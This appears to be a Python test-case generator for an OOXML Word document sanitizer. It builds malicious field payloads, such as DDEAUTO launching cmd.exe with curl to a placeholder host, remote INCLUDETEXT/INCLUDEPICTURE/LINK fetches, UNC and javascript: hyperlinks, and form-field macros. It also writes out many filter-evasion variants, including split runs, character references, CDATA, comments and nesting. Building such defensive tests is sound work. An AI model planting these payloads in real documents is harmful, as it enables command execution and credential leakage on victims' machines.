"""Attacks in text documents of OOXML: fields in every disguise, relationships, parts, and the layers of XML and ZIP."""

from attack import HOST, RELATION, XML, W, paragraph, run, text

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
DDE = f"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k curl {HOST}&quot;"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415478da63f8ffff3f0005"
    "fe02fe331295140000000049454e44ae426082"
)
STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"


def field(*instructions: str, result: str = "0") -> str:
    """A complex field whose instruction is split over runs."""
    middle = "".join(run(f'<w:instrText xml:space="preserve">{one}</w:instrText>') for one in instructions)
    return (
        run('<w:fldChar w:fldCharType="begin"/>')
        + middle
        + run('<w:fldChar w:fldCharType="separate"/>')
        + text(result)
        + run('<w:fldChar w:fldCharType="end"/>')
    )


def fields():
    for word in (
        f"DDE Excel C:\\\\{HOST}.xls A1",
        DDE,
        f"INCLUDETEXT http://{HOST}/x.docx",
        f"INCLUDEPICTURE http://{HOST}/x.png \\d",
        f"INCLUDEPICTURE \\\\\\\\{HOST}\\\\s\\\\x.png",
        f"LINK Word.Document.8 http://{HOST}/x.doc",
        "EMBED Package",
        f"IMPORT http://{HOST}/x.wmf",
        f"DATABASE \\d \\\\\\\\{HOST}\\\\x.mdb \\c Driver",
        f"MACROBUTTON Run http://{HOST}/",
        "GOTOBUTTON x y",
        f"AUTOTEXT http://{HOST}",
        f"FILLIN http://{HOST}",
        f"RD http://{HOST}/x.docx",
        "PRINT 27 ps",
        f"HYPERLINK file://{HOST}/x.exe",
        f"HYPERLINK \\\\\\\\{HOST}\\\\x",
        "HYPERLINK javascript:alert(1)",
        f"HYPERLINK search-ms:query=x&amp;crumb=location:\\\\\\\\{HOST}",
    ):
        yield (
            f"field-{word.split()[0].lower()}-{abs(hash_of(word)) % 1000:03}",
            f"field {word.split()[0]}",
            paragraph(field(f" {word} ")),
        )
    yield "field-split", "DDE split over runs", paragraph(field(" D", "DEA", f"UTO cmd /k {HOST}"))
    yield "field-split-letters", "DDE, a letter a run", paragraph(field(*f" DDEAUTO cmd {HOST}"))
    yield "field-lower", "DDE in small letters", paragraph(field(f" ddeauto cmd {HOST}"))
    yield "field-quotes", "DDE in quotation marks", paragraph(field(f' "DDEAUTO" cmd {HOST}'))
    yield "field-entities", "DDE as character references", paragraph(field(f" &#68;&#x44;EAUTO cmd {HOST}"))
    yield "field-cdata", "DDE in CDATA", paragraph(field(f" <![CDATA[DDEAUTO]]> cmd {HOST}"))
    yield "field-comment", "DDE with a comment inside the word", paragraph(field(f" DDE<!-- x -->AUTO cmd {HOST}"))
    yield (
        "field-instruction-pi",
        "DDE with a processing instruction inside",
        paragraph(field(f" DDE<?x y?>AUTO cmd {HOST}")),
    )
    yield "field-no-break", "DDE behind a no-break space", paragraph(field(f"\u00a0DDEAUTO cmd {HOST}"))
    yield "field-tab", "DDE behind a tab element", paragraph(field("<w:tab/>", f"DDEAUTO cmd {HOST}"))
    yield "field-simple", "DDE in fldSimple", paragraph(f'<w:fldSimple w:instr="{DDE}">{text("0")}</w:fldSimple>')
    yield (
        "field-simple-lower",
        "DDE in fldSimple, mixed case",
        paragraph(f'<w:fldSimple w:instr=" dDeAuTo cmd {HOST}"/>'),
    )
    yield (
        "field-simple-nested",
        "DDE in a fldSimple in an allowed one",
        paragraph(f'<w:fldSimple w:instr="PAGE"><w:fldSimple w:instr="{DDE}"/></w:fldSimple>'),
    )
    yield (
        "field-deleted",
        "DDE in a deleted run",
        paragraph(
            '<w:del w:id="1" w:author="a"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText>'
            f' DDEAUTO cmd {HOST}</w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:del>'
        ),
    )
    yield (
        "field-inserted",
        "DDE in an inserted run",
        paragraph(f'<w:ins w:id="1" w:author="a">{field(f" DDEAUTO cmd {HOST}")}</w:ins>'),
    )
    yield (
        "field-nested-quote",
        "QUOTE that builds DDE from numbers",
        paragraph(
            run('<w:fldChar w:fldCharType="begin"/>')
            + field(" QUOTE 68 68 69 65 85 84 79 ", result="DDEAUTO")
            + run(f"<w:instrText> cmd {HOST}</w:instrText>")
            + run('<w:fldChar w:fldCharType="end"/>')
        ),
    )
    yield (
        "field-nested-allowed",
        "DDE inside the instruction of IF",
        paragraph(
            run('<w:fldChar w:fldCharType="begin"/>')
            + run("<w:instrText> IF 1=1 </w:instrText>")
            + field(f" DDEAUTO cmd {HOST}")
            + run('<w:fldChar w:fldCharType="end"/>')
        ),
    )
    yield (
        "field-in-result",
        "DDE in the result of an allowed field",
        paragraph(
            run('<w:fldChar w:fldCharType="begin"/>')
            + run("<w:instrText> PAGE </w:instrText>")
            + run('<w:fldChar w:fldCharType="separate"/>')
            + field(f" DDEAUTO cmd {HOST}")
            + run('<w:fldChar w:fldCharType="end"/>')
        ),
    )
    yield (
        "field-over-paragraphs",
        "DDE whose instruction runs over paragraphs",
        (
            paragraph(run('<w:fldChar w:fldCharType="begin"/>') + run("<w:instrText> DDE</w:instrText>"))
            + paragraph(run(f"<w:instrText>AUTO cmd {HOST}</w:instrText>") + run('<w:fldChar w:fldCharType="end"/>'))
        ),
    )
    yield (
        "field-no-end",
        "DDE without an end",
        paragraph(run('<w:fldChar w:fldCharType="begin"/>') + run(f"<w:instrText>{DDE}</w:instrText>")),
    )
    yield "field-no-begin", "an instruction without a field", paragraph(run(f"<w:instrText>{DDE}</w:instrText>"))
    yield (
        "field-in-hyperlink",
        "DDE inside a hyperlink",
        paragraph(f'<w:hyperlink w:anchor="x">{field(f" DDEAUTO cmd {HOST}")}</w:hyperlink>'),
    )
    yield (
        "field-in-sdt",
        "DDE inside a content control",
        f"<w:sdt><w:sdtContent>{paragraph(field(f' DDEAUTO cmd {HOST}'))}</w:sdtContent></w:sdt>",
    )
    yield (
        "field-in-table",
        "DDE inside a table",
        (
            f"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc>{paragraph(field(f' DDEAUTO cmd {HOST}'))}</w:tc></w:tr></w:tbl>"
        ),
    )
    yield (
        "field-in-fallback",
        "DDE in mc:Fallback",
        paragraph(
            '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="x14">'
            f"{text('a')}</mc:Choice><mc:Fallback>{field(f' DDEAUTO cmd {HOST}')}</mc:Fallback></mc:AlternateContent>"
        ),
    )
    yield (
        "field-hyperlink-switch",
        "HYPERLINK with its target behind switches",
        paragraph(field(f' HYPERLINK \\o "tip" "file://{HOST}/x"')),
    )
    yield (
        "field-form-macro",
        "form field with macros",
        paragraph(
            run(
                '<w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="a"/><w:enabled/><w:entryMacro w:val="Run"/>'
                '<w:exitMacro w:val="Run"/></w:ffData></w:fldChar>'
            )
            + run("<w:instrText> FORMTEXT </w:instrText>")
            + run('<w:fldChar w:fldCharType="end"/>')
        ),
    )


def hash_of(words: str) -> int:
    """The same each time, unlike hash()."""
    return sum(ord(sign) * (n + 1) for n, sign in enumerate(words))


def foreign_words(what: str) -> str:
    return f'{XML}<w:{what} xmlns:w="{W}" xmlns:r="{RELATION}">{paragraph(field(f" DDEAUTO cmd {HOST}"))}</w:{what}>'
